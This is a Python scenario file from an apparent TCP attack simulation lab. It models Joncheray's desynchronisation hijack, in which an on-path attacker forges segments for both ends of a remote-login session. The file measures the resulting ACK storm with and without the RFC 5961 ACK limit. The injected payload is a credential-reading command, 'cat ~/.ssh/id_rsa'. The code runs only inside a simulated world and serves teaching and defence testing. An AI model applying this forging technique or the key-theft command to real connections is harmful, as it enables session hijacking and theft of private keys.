"""Desynchronisation: text for both ends that neither has sent; then each corrects the other (Joncheray 1995)."""

import asyncio
from collections.abc import Mapping
from dataclasses import replace
from typing import ClassVar

from halfopen.lab.crafting import make_segment
from halfopen.lab.permit import SIMULATION_ONLY
from halfopen.lab.scenario import Outcome, Parameter, Scenario, Settings
from halfopen.lab.world import Layout, World
from halfopen.stack.config import StackConfig
from halfopen.stack.tcp_socket import TcpSocket
from halfopen.tcp.config import SecurityConfig, TcpConfig
from halfopen.tcp.seqnum import wrap

PORT = 23
ROUND_TRIP = 0.02
"""Seconds: two cables each way."""
LIMITED = 4.0
"""Packets a second of both ends, each of which answers twice."""
COMMAND = b"cat ~/.ssh/id_rsa\n"


class Desynchronisation(Scenario):
    """The attacker is on the client's segment, sees everything, and speaks for both."""

    name = "desync"
    title = "A hijacked connection, and the storm of ACKs that it leaves"
    text = (
        "Who is on the path knows all numbers and can put text into a connection: no rule about numbers helps, only"
        " cryptography does (TCP-AO, TLS). Afterwards the true ends disagree about where they are: each answers what"
        " the other sends by an ACK with its own idea of the numbers, which the other finds out of its window and"
        " answers in turn. Without a limit that goes on for ever, at the speed of the path, until a segment is lost."
    )
    ip_versions: ClassVar[tuple[int, ...]] = (4, 6)
    parameters: ClassVar[Mapping[str, Parameter]] = {
        "seconds": Parameter(5.0, "s", "how long the storm is watched", least=1, most=60),
    }
    defences: ClassVar[Mapping[str, str]] = {
        "ack-limit": "one answer in half a second to what is out of the window (RFC 5961 7, Linux since 2015)"
    }

    def play(self, settings: Settings) -> Outcome:
        """A remote login with somebody beside it."""
        if "ack-limit" in settings.defences:
            config = StackConfig()
        else:
            weak = SecurityConfig(permit=SIMULATION_ONLY, challenge_limit="none")
            config = StackConfig(tcp=replace(TcpConfig(), security=weak))
        layout = Layout(attacker="client", configs={"client": config, "server": config}, silent=True)
        with World(settings, layout) as world:
            return world.run(story(world, settings.number("seconds")))


async def story(world: World, seconds: float) -> Outcome:
    """A word of the client's; then one of the attacker's to each end; then the client speaks again."""
    heard: list[bytes] = []
    is_limited = "ack-limit" in world.settings.defences
    serving = world.server.run(serve(world, heard))
    await world.at_rest(0.01)
    reader, writer = await world.client.run(log_in(world))
    socket = next(each for each in world.client.stack.tcp.sockets() if isinstance(each, TcpSocket))
    port, tcb = socket.local_port, socket.connection.tcb
    # What the attacker has seen on the segment: the numbers of both directions.
    ours, theirs = wrap(tcb.snd.nxt), wrap(tcb.rcv.nxt)
    attacker = world.attacker
    attacker.send(
        make_segment((port, PORT), "P.", seq=ours, ack=theirs, payload=COMMAND),
        source=world.client.address,
        destination=world.server.address,
        comment="text that the client never sent",
    )
    attacker.send(
        make_segment((PORT, port), "P.", seq=theirs, ack=ours, payload=b"x" * len(COMMAND)),
        source=world.server.address,
        destination=world.client.address,
        comment="text that the server never sent",
    )
    await world.at_rest(0.5)
    before = packets(world)
    writer.write(b"ls\n")
    await asyncio.sleep(seconds)
    storm = packets(world) - before
    rate = storm / seconds
    obeyed = any(COMMAND in text for text in heard)
    writer.transport.abort()
    serving.cancel()
    del reader
    return world.outcome(
        attack_succeeded=obeyed and rate > STORM,
        metrics={
            "command obeyed": float(obeyed),
            "packets a second": rate,
            "packets for each octet injected": storm / (2 * len(COMMAND)),
        },
        theory={"command obeyed": 1.0, "packets a second": LIMITED if is_limited else 4 / ROUND_TRIP},
        tolerance={"packets a second": 0.05},
        notes=(
            "The limit ends the storm, not the hijacking: that the command was obeyed no rule of TCP can prevent.",
            "A storm makes two packets in each round trip, and each of the two forged texts has begun one; nothing ends"
            " them but a loss. With the limit each end says at most two a second.",
        ),
        port=port,
    )


STORM = 20.0
"""Packets a second that nobody has asked for; the limit allows each end two."""


def packets(world: World) -> int:
    """Sent so far by both ends."""
    return sum(host.stack.interfaces[0].statistics.sent_packets for host in (world.client, world.server))


async def serve(world: World, heard: list[bytes]) -> None:
    """A login service without any passwords."""

    async def obey(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"$ ")
        try:
            while text := await reader.read(1000):
                heard.append(text)
        except OSError:
            pass
        finally:
            writer.close()

    await world.server.start_server(obey, None, PORT)
    await asyncio.Event().wait()


async def log_in(world: World) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """The prompt is there."""
    reader, writer = await world.client.open_connection("server", PORT)
    await reader.readexactly(2)
    writer.write(b"pwd\n")
    await asyncio.sleep(0.3)
    return reader, writer
